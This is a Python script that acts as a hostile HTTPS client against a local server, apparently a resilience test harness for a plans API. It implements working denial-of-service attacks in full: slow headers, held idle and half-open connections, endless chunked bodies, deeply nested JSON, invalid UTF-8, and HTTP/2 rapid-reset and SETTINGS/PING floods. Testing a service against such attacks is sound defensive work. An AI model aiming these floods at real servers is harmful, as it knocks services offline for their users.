#!/usr/bin/python3
"""A hostile client: attack.py KIND PORT [COUNT]

Attacks https://127.0.0.1:PORT from 127.0.0.2, so that limits for an address hold it and not those it is to disturb.
Prints "ready" once the attack is under way, goes on until its standard input ends, then prints what it did.

  idle            COUNT connections that finish the TLS handshake and say nothing
  half_open       COUNT connections that do not even begin the handshake
  slow_headers    COUNT requests whose headers come a line every second
  endless_body    COUNT bodies that do not end
  deep_json       JSON a hundred thousand levels deep
  wrong_utf8      bytes that are no UTF-8, in bodies, paths and headers
  rapid_reset     HTTP/2 streams opened and reset at once
  settings_flood  HTTP/2 SETTINGS and PING without end
"""

import os
import resource
import selectors
import socket
import ssl
import struct
import sys
import threading
import time

stop = threading.Event()
counts = {}


def count(what, by=1):
    counts[what] = counts.get(what, 0) + by


def tls(alpn):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    return context


HTTP1 = tls("http/1.1")
HTTP2 = tls("h2")


def connect(port, context=None):
    plain = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=("127.0.0.2", 0))
    return plain if context is None else context.wrap_socket(plain, server_hostname="localhost")


def hold(port, number, context):
    """Opens so many, and opens those again that are closed on us, a few each second."""
    selector = selectors.DefaultSelector()

    def open_one():
        try:
            connection = connect(port, context)
        except OSError:
            count("refused")
            return
        connection.setblocking(False)
        selector.register(connection, selectors.EVENT_READ)
        count("opened")

    for _ in range(number):
        open_one()
    print("ready", flush=True)
    while not stop.is_set():
        for key, _ in selector.select(timeout=0.2):
            try:
                gone = not key.fileobj.recv(4096)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            except OSError:
                gone = True
            if gone:
                selector.unregister(key.fileobj)
                key.fileobj.close()
                count("closed by the server")
        for _ in range(20):
            if len(selector.get_map()) < number:
                open_one()
        stop.wait(0.1)
    count("held at the end", len(selector.get_map()))


def slow_headers(port, number):
    connections = []
    first = True
    while not stop.is_set():
        while len(connections) < number and not stop.is_set():
            try:
                connection = connect(port, HTTP1)
                connection.sendall(b"GET /v1/plans HTTP/1.1\r\nHost: localhost\r\n")
                connections.append(connection)
                count("opened")
            except OSError:
                count("refused")
                break
        if first:
            print("ready", flush=True)
            first = False
        for connection in list(connections):
            try:
                connection.sendall(b"X-Slow: 1\r\n")
            except OSError:
                connections.remove(connection)
                connection.close()
                count("closed by the server")
        stop.wait(1)


def endless_body(port, number):
    piece = b"4000\r\n" + b"[" * 0x4000 + b"\r\n"

    def one():
        while not stop.is_set():
            try:
                connection = connect(port, HTTP1)
                connection.sendall(b"POST /v1/plans HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                                   b"Transfer-Encoding: chunked\r\n\r\n")
                count("begun")
                while not stop.is_set():
                    connection.sendall(piece)
                    count("kilobytes sent", 16)
                    stop.wait(0.05)
            except OSError:
                count("ended by the server")
                stop.wait(0.2)

    threads = [threading.Thread(target=one) for _ in range(number)]
    for thread in threads:
        thread.start()
    print("ready", flush=True)
    for thread in threads:
        thread.join()


def requests(port, bodies, pause):
    """Whole requests, one after another, whatever is answered."""
    print("ready", flush=True)
    number = 0
    while not stop.is_set():
        try:
            connection = connect(port, HTTP1)
            connection.sendall(bodies[number % len(bodies)])
            answer = connection.recv(64)
            count("answered " + answer[9:12].decode("ascii", "replace") if answer else "closed")
            connection.close()
        except OSError:
            count("closed")
        number += 1
        stop.wait(pause)


def post(path, body):
    return (b"POST " + path + b" HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nAuthorization: Bearer "
            + os.environb.get(b"ATTACK_TOKEN", b"") + b"\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n"
            + body)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)


def drain(connection):
    """Reads what comes, so that it is not the attacked one who waits for us."""
    while not stop.is_set():
        try:
            connection.settimeout(0.5)  # the other thread may have closed it
            if not connection.recv(65536):
                return
        except socket.timeout:
            continue
        except OSError:
            return


def http2(port, next_bytes):
    first = True
    while not stop.is_set():
        try:
            connection = connect(port, HTTP2)
            connection.sendall(PREFACE)
        except OSError:
            count("refused")
            stop.wait(0.1)
            continue
        count("connections")
        if first:
            print("ready", flush=True)
            first = False
        reader = threading.Thread(target=drain, args=(connection,), daemon=True)
        reader.start()
        state = 1
        try:
            while not stop.is_set():
                data, state, made = next_bytes(state)
                connection.sendall(data)
                for what, number in made.items():
                    count(what, number)
                if state > 0x7FFF0000:
                    break
        except OSError:
            count("ended by the server")
        try:
            connection.close()
        except OSError:
            pass


def resets(stream):
    # :method GET, :scheme https, :path /v1/plans, :authority localhost
    block = b"\x82\x87\x44\x09/v1/plans\x41\x09localhost"
    data = b""
    for _ in range(100):
        data += frame(1, 0x5, stream, block) + frame(3, 0, stream, struct.pack(">I", 8))
        stream += 2
    return data, stream, {"streams reset": 100}


def settings(state):
    return (frame(4, 0, 0) + frame(6, 0, 0, b"12345678")) * 100, state, {"settings and pings": 200}


def main():
    kind, port = sys.argv[1], int(sys.argv[2])
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    number = min(int(sys.argv[3]) if len(sys.argv) > 3 else 100, most - 100)
    deep = b"[" * 100000
    wrong = b'{"plan":{"title":"\xff\xfe\xc3\x28\xed\xa0\x80"}}'
    kinds = {
        "idle": lambda: hold(port, number, HTTP1),
        "half_open": lambda: hold(port, number, None),
        "slow_headers": lambda: slow_headers(port, number),
        "endless_body": lambda: endless_body(port, number),
        "deep_json": lambda: requests(port, [post(b"/v1/plans", b'{"plan":' + deep),
                                             post(b"/v1/plans", deep.replace(b"[", b'{"plan":'))], 0.05),
        "wrong_utf8": lambda: requests(port, [post(b"/v1/plans", wrong), post(b"/v1/plans/\xff\xfe", b"{}"),
                                              post(b"/v1/plans?filter=%ff%fe", b"{}")], 0.02),
        "rapid_reset": lambda: http2(port, resets),
        "settings_flood": lambda: http2(port, settings),
    }
    worker = threading.Thread(target=kinds[kind])
    worker.start()
    start = time.monotonic()
    sys.stdin.read()
    stop.set()
    worker.join()
    shown = ", ".join(f"{what} {by}" for what, by in sorted(counts.items()))
    print(f"{time.monotonic() - start:.0f} s: {shown}", flush=True)


if __name__ == "__main__":
    main()
